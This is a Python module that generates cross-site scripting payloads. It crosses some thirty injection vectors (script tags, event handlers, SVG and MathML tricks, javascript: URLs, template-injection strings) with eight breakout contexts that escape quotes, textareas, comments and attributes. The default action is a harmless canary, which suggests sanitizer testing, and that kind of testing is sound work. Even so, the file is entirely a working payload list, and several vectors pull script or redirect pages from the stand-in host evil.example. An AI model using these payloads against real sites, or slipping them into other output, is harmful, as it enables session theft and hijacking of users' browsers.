"""Texts that run as script wherever a page takes text for markup: every vector in every context."""

RUN = "top.canary=1"  # what each of them would do

VECTORS = [
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}//",
    "<img src=//evil.example/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#x />",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<a href=javascript:{run} id=x autofocus>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<object data=javascript:{run}></object>",
    "<embed src=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<p style='background:url(//evil.example/x)' onanimationstart={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
]

CONTEXTS = [
    "{0}",
    "\">{0}",
    "'>{0}",
    "</textarea></title></style></script>{0}",
    "-->{0}<!--",
    "\\u003c/p\\u003e{0}",
    "\" onmouseover=" + RUN + " autofocus tabindex=1 onfocus=" + RUN + " x=\"{0}",
    "&lt;p&gt;{0}&#60;/p&#62;",
]


def payloads():
    vectors = [vector.format(run=RUN) for vector in VECTORS]
    return [context.format(vector) for context in CONTEXTS for vector in vectors]
